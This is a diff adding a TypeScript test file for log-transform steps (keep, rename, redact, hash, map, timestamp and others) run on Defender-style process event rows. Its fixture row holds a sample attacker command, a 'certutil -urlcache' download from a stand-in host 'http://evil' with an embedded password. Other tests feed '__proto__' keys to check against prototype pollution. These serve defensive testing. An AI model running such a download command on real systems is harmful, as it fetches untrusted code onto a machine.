@@ -1,0 +1,277 @@
+import { createHash, createHmac } from 'node:crypto';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { steps } from '../../../src/rules/transforms/index.ts';
+import type { JsonObject } from '../../../src/shared/json.ts';
+import { compileSteps, frozen } from './run.ts';
+
+const row = frozen({
+  DeviceName: 'WS-01.Contoso.com',
+  FileName: 'certutil.exe',
+  ProcessCommandLine: 'certutil -urlcache http://evil Password=hunter2 x',
+  AdditionalFields: '{"a":{"b":1},"c":[1,2]}',
+  AccountUpn: 'Ada@contoso.com',
+  ProcessId: 4711,
+  Timestamp: '2026-11-23T07:04:05.1234567Z',
+  AppGuardContainerId: '',
+  LogonId: null,
+}) as JsonObject;
+
+function result(yaml: string, variables = {}): JsonObject {
+  const { run, problems } = compileSteps(yaml, 'DeviceProcessEvents', variables);
+  expect(problems.filter((one) => one.startsWith('error'))).toEqual([]);
+  return run(row);
+}
+
+describe('keep and remove', () => {
+  it('keep leaves the listed columns in their order', () => {
+    expect(Object.keys(result('  - keep: [FileName, DeviceName]'))).toEqual(['DeviceName', 'FileName']);
+    expect(Object.keys(result('  - keep: FileName'))).toEqual(['FileName']);
+  });
+
+  it('remove drops the listed columns', () => {
+    expect(result('  - remove: [AdditionalFields, Timestamp]')).not.toHaveProperty('AdditionalFields');
+    expect(result('  - remove: AppGuardContainerId')).not.toHaveProperty('AppGuardContainerId');
+  });
+
+  it('take * for any characters', () => {
+    expect(Object.keys(result('  - keep: ["*Name", Process*]'))).toEqual([
+      'DeviceName',
+      'FileName',
+      'ProcessCommandLine',
+      'ProcessId',
+    ]);
+    expect(Object.keys(result('  - keep: ["*e*Line"]'))).toEqual(['ProcessCommandLine']);
+  });
+
+  it('remove_empty drops null and empty texts', () => {
+    const out = result('  - remove_empty: true');
+    expect(Object.keys(out)).toEqual(
+      Object.keys(row).filter((name) => row[name] !== null && row[name] !== ''),
+    );
+  });
+});
+
+describe('rename, copy and set', () => {
+  it('rename keeps place and value', () => {
+    const out = result('  - rename: { DeviceName: host.name }');
+    expect(Object.keys(out)[0]).toBe('host.name');
+    expect(out['host.name']).toBe(row.DeviceName);
+    expect(out).not.toHaveProperty('DeviceName');
+  });
+
+  it('rename swaps', () => {
+    const out = result('  - rename: { FileName: DeviceName, DeviceName: FileName }');
+    expect([out.FileName, out.DeviceName]).toEqual([row.DeviceName, row.FileName]);
+  });
+
+  it('rename wins over a column that the schema does not know', () => {
+    const { run } = compileSteps('  - rename: { FileName: brand_new }');
+    expect(run({ brand_new: 1, FileName: 'a' })).toEqual({ brand_new: 'a' });
+    expect(run({ FileName: 'a', brand_new: 1 })).toEqual({ brand_new: 'a' });
+    expect(run({ brand_new: 1 })).toEqual({ brand_new: 1 });
+  });
+
+  it('copy leaves the first', () => {
+    expect(result('  - copy: { DeviceName: host }')).toEqual({ ...row, host: row.DeviceName });
+    expect(result('  - copy: { SHA1: hash_value }')).toBe(row);
+  });
+
+  it('set writes constants and variables', () => {
+    const out = result(
+      '  - set: { environment: production, site: $SITE, price: $$5, n: 1, o: { a: [null] } }',
+      {
+        SITE: 'zrh',
+      },
+    );
+    expect(out).toEqual({
+      ...row,
+      environment: 'production',
+      site: 'zrh',
+      price: '$5',
+      n: 1,
+      o: { a: [null] },
+    });
+  });
+});
+
+describe('texts', () => {
+  it('lowercase and uppercase change texts only', () => {
+    expect(result('  - lowercase: [DeviceName, AccountUpn, SHA1]')).toEqual({
+      ...row,
+      DeviceName: 'ws-01.contoso.com',
+      AccountUpn: 'ada@contoso.com',
+    });
+    expect(result('  - uppercase: FileName').FileName).toBe('CERTUTIL.EXE');
+  });
+
+  it('truncate marks the cut and keeps surrogate pairs whole', () => {
+    expect(result('  - truncate: { columns: FileName, length: 4 }').FileName).toBe('cert…');
+    expect(result('  - truncate: { columns: FileName, length: 12 }')).toBe(row);
+    const { run } = compileSteps('  - truncate: { columns: FileName, length: 2 }');
+    expect(run({ FileName: 'a😀b' })).toEqual({ FileName: 'a…' });
+  });
+
+  it('redact takes the matches, or the whole', () => {
+    const out = result(
+      '  - redact: { columns: ProcessCommandLine, pattern: "(?i)password=\\\\S+", with: "$0 \\\\1" }',
+    );
+    expect(out.ProcessCommandLine).toBe('certutil -urlcache http://evil $0 \\1 x');
+    expect(result('  - redact: { columns: [AccountUpn, ProcessId, LogonId] }')).toEqual({
+      ...row,
+      AccountUpn: '[redacted]',
+      ProcessId: '[redacted]',
+    });
+  });
+});
+
+describe('parse_json and flatten', () => {
+  it('reads objects and lists, leaves the rest', () => {
+    expect(result('  - parse_json: [AdditionalFields, FileName]').AdditionalFields).toEqual({
+      a: { b: 1 },
+      c: [1, 2],
+    });
+    const { run } = compileSteps('  - parse_json: AdditionalFields');
+    for (const text of ['', '{', '42', '"x"', 'null', '{"a":1}x', '[1', 'x{}']) {
+      const given = frozen({ AdditionalFields: text });
+      expect(run(given)).toBe(given);
+    }
+    expect(run({ AdditionalFields: ' \n[1]' })).toEqual({ AdditionalFields: [1] });
+  });
+
+  it('leaves what nests deeper than 64 as text', () => {
+    const { run } = compileSteps('  - parse_json: AdditionalFields');
+    const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
+    expect(run({ AdditionalFields: nested(64) }).AdditionalFields).toBeInstanceOf(Array);
+    expect(run({ AdditionalFields: nested(65) }).AdditionalFields).toBe(nested(65));
+    expect(run({ AdditionalFields: nested(1_000_000) }).AdditionalFields).toHaveLength(2_000_000);
+    const text = JSON.stringify({ text: `${'['.repeat(100)}\\"` });
+    expect(run({ AdditionalFields: text }).AdditionalFields).toEqual(JSON.parse(text));
+  });
+
+  it('flatten copies keys beside the object, and overwrites none', () => {
+    const out = result('  - parse_json: AdditionalFields\n  - flatten: { column: AdditionalFields }');
+    expect(out['AdditionalFields.a']).toEqual({ b: 1 });
+    const { run } = compileSteps('  - flatten: { column: AdditionalFields, prefix: "" }', 'CloudAppEvents');
+    expect(run({ AdditionalFields: { City: 'x', New: 1 }, City: 'y' })).toMatchObject({ City: 'y', New: 1 });
+    expect(run({ AdditionalFields: [1] })).toEqual({ AdditionalFields: [1] });
+  });
+});
+
+describe('hash', () => {
+  it('is plain without a key, with a warning, and HMAC with one', () => {
+    const plain = compileSteps('  - hash: { columns: AccountUpn }');
+    expect(plain.run(row).AccountUpn).toBe(createHash('sha256').update('Ada@contoso.com').digest('hex'));
+    expect(plain.problems).toEqual([expect.stringContaining('warning no-hash-key')]);
+    const key = 'k'.repeat(32);
+    const out = result(
+      '  - hash: { columns: [AccountUpn, ProcessId, LogonId, SHA1], with: sha512, key: $K }',
+      { K: key },
+    );
+    expect(out.AccountUpn).toBe(createHmac('sha512', key).update('Ada@contoso.com').digest('hex'));
+    expect(out.ProcessId).toBe(createHmac('sha512', key).update('4711').digest('hex'));
+    expect(out.LogonId).toBeNull();
+    expect(out).not.toHaveProperty('SHA1');
+  });
+});
+
+describe('map', () => {
+  it('translates, with a default and into another column', () => {
+    expect(result('  - map: { column: ProcessId, values: { 4711: cologne } }').ProcessId).toBe('cologne');
+    expect(result('  - map: { column: FileName, values: { a: b } }')).toBe(row);
+    expect(result('  - map: { column: FileName, values: { a: b }, default: other }').FileName).toBe('other');
+    expect(result('  - map: { column: FileName, values: { certutil.exe: null } }').FileName).toBeNull();
+    expect(result('  - map: { column: FileName, values: { certutil.exe: lolbin }, to: kind }')).toEqual({
+      ...row,
+      kind: 'lolbin',
+    });
+    expect(result('  - map: { column: SHA1, values: { a: b }, to: kind }')).toBe(row);
+  });
+});
+
+describe('timestamp', () => {
+  it('writes seconds, milliseconds and RFC 3339', () => {
+    expect(result('  - timestamp: { columns: Timestamp, format: epoch }').Timestamp).toBe(1795417445.123456);
+    expect(result('  - timestamp: { columns: Timestamp, format: epoch_ms, to: _time }')).toEqual({
+      ...row,
+      _time: 1795417445123,
+    });
+    expect(result('  - timestamp: { columns: [Timestamp], format: iso }').Timestamp).toBe(
+      '2026-11-23T07:04:05.123Z',
+    );
+  });
+
+  it('knows the forms Defender writes, and leaves what is no time', () => {
+    const { run } = compileSteps('  - timestamp: { columns: Timestamp, format: iso }');
+    const iso = (text: string) => run({ Timestamp: text }).Timestamp;
+    expect(iso('2026-11-23T07:04:05Z')).toBe('2026-11-23T07:04:05.000Z');
+    expect(iso('2026-11-23 07:04:05.1')).toBe('2026-11-23T07:04:05.100Z');
+    expect(iso('2026-11-23T07:04:05+0130')).toBe('2026-11-23T05:34:05.000Z');
+    for (const text of ['', 'yesterday', '2026-13-01T00:00:00Z', '2026-11-23', `${'9'.repeat(100_000)}`])
+      expect(iso(text)).toBe(text);
+  });
+});
+
+describe('every step', () => {
+  const all = `
+  - parse_json: AdditionalFields
+  - flatten: { column: AdditionalFields }
+  - lowercase: [DeviceName]
+  - uppercase: [FileName]
+  - truncate: { columns: ProcessCommandLine, length: 8 }
+  - redact: { columns: [FolderPath], pattern: "a+" }
+  - hash: { columns: AccountUpn, key: $KEY }
+  - map: { column: ActionType, values: { a: b }, default: c }
+  - timestamp: { columns: Timestamp, format: epoch }
+  - copy: { SHA256: hash_value }
+  - set: { environment: test }
+  - rename: { MD5: md5 }
+  - remove: [AppGuardContainerId]
+  - remove_empty: true
+  - keep: ["*"]`;
+  const compiled = compileSteps(all, 'DeviceProcessEvents', { KEY: 'k'.repeat(32) });
+
+  it('is in the list above', () => {
+    expect(compiled.problems).toEqual([]);
+    for (const { verb } of steps) expect(all).toContain(`- ${verb}:`);
+  });
+
+  it('never throws and never changes its input, whatever the row holds', () => {
+    const names = fc.constantFrom(
+      'DeviceName',
+      'AdditionalFields',
+      'FolderPath',
+      'Timestamp',
+      'AccountUpn',
+      'MD5',
+      'ActionType',
+    );
+    const key = fc.oneof(names, fc.constantFrom('__proto__', 'constructor', 'toString'), fc.string());
+    const rows = fc
+      .array(fc.tuple(key, fc.jsonValue()))
+      .map((pairs) =>
+        JSON.parse(`{${pairs.map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v)}`).join(',')}}`),
+      );
+    fc.assert(
+      fc.property(rows, (given) => {
+        const before = JSON.stringify(given);
+        compiled.run(frozen(given));
+        expect(JSON.stringify(given)).toBe(before);
+      }),
+    );
+  });
+
+  it('keeps a column named __proto__ a column', () => {
+    const given = JSON.parse('{"__proto__":{"polluted":1},"MD5":"x","DeviceName":"A"}');
+    const out = compiled.run(frozen(given));
+    expect(Object.keys(out)).toContain('__proto__');
+    expect(Object.getPrototypeOf(out)).toBe(Object.prototype);
+    expect(JSON.stringify(out)).toContain('"__proto__":{"polluted":1}');
+  });
+
+  it('returns the row itself when nothing changed', () => {
+    const given = frozen({ Unknown: 1 });
+    const { run } = compileSteps('  - lowercase: DeviceName\n  - remove: MD5\n  - rename: { SHA1: sha1 }');
+    expect(run(given)).toBe(given);
+  });
+});
